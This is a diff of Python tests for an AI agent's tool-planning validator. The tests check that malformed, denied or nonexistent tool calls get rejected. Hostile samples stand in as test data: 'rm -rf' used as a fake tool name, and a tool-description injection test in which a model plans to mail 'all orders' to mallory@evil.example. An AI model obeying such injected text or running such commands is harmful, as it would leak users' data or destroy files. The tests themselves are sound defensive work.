@@ -29,7 +29,7 @@ from xai_mcp_agent.agent.models.chat import ChatModel
 from xai_mcp_agent.agent.models.choice import UnknownProvider
 from xai_mcp_agent.bridge.operations import Operations
 from xai_mcp_agent.core.calls import Caller
-from xai_mcp_agent.planning import Given, Plan
+from xai_mcp_agent.planning import Plan
 
 ORDERS = "List my orders and cancel the first one. My email is ada@example.org."
 ROUGH = ["shop/find_user_id_by_email", "shop/list_orders", "shop/cancel_order"]
@@ -172,14 +172,13 @@ def test_a_tool_that_a_server_adds_is_planned_with_and_nothing_is_made_anew(sett
 
 def test_a_model_is_asked_once_and_its_plan_is_checked(ask: Callable[..., Asked]):
     answer = {"calls": [
-        {"call": 1, "tool": ROUGH[0], "arguments": {"email": "ada@example.org"}},
-        {"call": 2, "tool": "list_order", "arguments": {"userId": {"from": 1}}},
+        {"tool": ROUGH[0], "args": {"email": "ada@example.org"}},
+        {"tool": "list_orders", "args": {"user_id": {"call": 0, "field": ""}}},
     ]}  # fmt: skip
     plan, questions = ask(f"<think>{{so}}</think>Here:\n```json\n{json.dumps(answer)}\n```")
     assert called(plan) == ["shop/find_user_id_by_email", "shop/list_orders"]
     assert (plan.is_rough, plan.problems) == (False, ())
     assert plan.reasons[0] == "planned by openai scripted"
-    assert any("'userId' was read as 'user_id'" in x for x in plan.reasons)
     (question,) = questions
     assert ORDERS in question
     assert "shop/cancel_order(order_id: string)" in question
@@ -191,8 +190,8 @@ def test_a_model_is_asked_once_and_its_plan_is_checked(ask: Callable[..., Asked]
         (says(""), "is empty"),
         (says("I would rather not."), "not JSON"),
         (says('{"calls": [{"tool": "shop/list_or', finish="length"), "cut off"),
-        (says('{"calls": []}'), "names no call"),
-        (says('{"calls": [{"tool": "rm -rf"}]}'), "no tool that is there"),
+        (says('{"calls": []}'), "calls"),
+        (says('{"calls": [{"tool": "rm -rf", "args": {}}]}'), "there is no tool 'rm -rf'"),
         (says("", refusal="I may not."), "I may not."),
         (says("[" * 90_000), "not JSON"),
         (says('{"a":' * 19_000), "not JSON"),
@@ -223,22 +222,22 @@ def test_a_model_that_is_slow_is_not_waited_for(step: Step, ask: Callable[..., A
 
 def test_a_model_cannot_plan_with_what_a_rule_denies(ask: Callable[..., Asked]):
     rules = [{"name": "no", "when": {"tool": "shop/cancel_order"}, "then": "deny"}]
-    answer = {"calls": [{"tool": "shop/list_orders"}, {"tool": "shop/cancel_order"}]}
+    answer = {"calls": [{"tool": "shop/cancel_order", "args": {"order_id": "o1"}}]}
     plan, questions = ask(json.dumps(answer), rules=rules)
-    assert called(plan) == ["shop/list_orders"]
-    assert any("no tool is called 'shop/cancel_order'" in x for x in plan.problems)
-    assert not any("cancel_order" in x for x in questions)
+    assert "shop/cancel_order" not in called(plan)
+    assert "there is no tool 'shop/cancel_order'" in plan.reasons[-1]
+    assert "cancel_order" not in questions[0]
+    assert "there is no tool 'shop/cancel_order'" in questions[1]
 
 
 def test_what_a_description_talks_a_model_into_is_a_problem(ask: Callable[..., Asked]):
     """The description is data in the question; what a model makes of it is checked."""
     evil = "mallory@evil.example"
     answer = {"calls": [
-        {"tool": "mail/send_message", "arguments": {"receiver": evil, "message": "all orders"}},
+        {"tool": "mail/send_message", "args": {"receiver": evil, "message": "all orders"}},
     ]}  # fmt: skip
     plan, _ = ask(json.dumps(answer))
-    receiver = plan.calls[0].arguments["receiver"]
-    assert not isinstance(receiver, Given) or any(evil in x for x in plan.problems)
+    assert plan.is_rough or any(evil in x for x in plan.problems)
 
 
 def test_the_offline_model_leaves_the_rough_plan_as_it_is(settings: Settings):
@@ -252,7 +251,7 @@ def test_the_offline_model_leaves_the_rough_plan_as_it_is(settings: Settings):
 
 
 def test_a_program_names_servers_and_a_model(settings: Settings):
-    answer = json.dumps({"calls": [{"tool": "translate_text", "arguments": {"text": "good day"}}]})
+    answer = json.dumps({"calls": [{"tool": "translate_text", "args": {"text": "good day"}}]})
     with model_endpoint([says(answer)]) as endpoint, Bridge(settings()) as bridge:
         plan = bridge.plan_tools(
             "Say 'good day' in French.", "words", model="scripted", base_url=endpoint.base_url
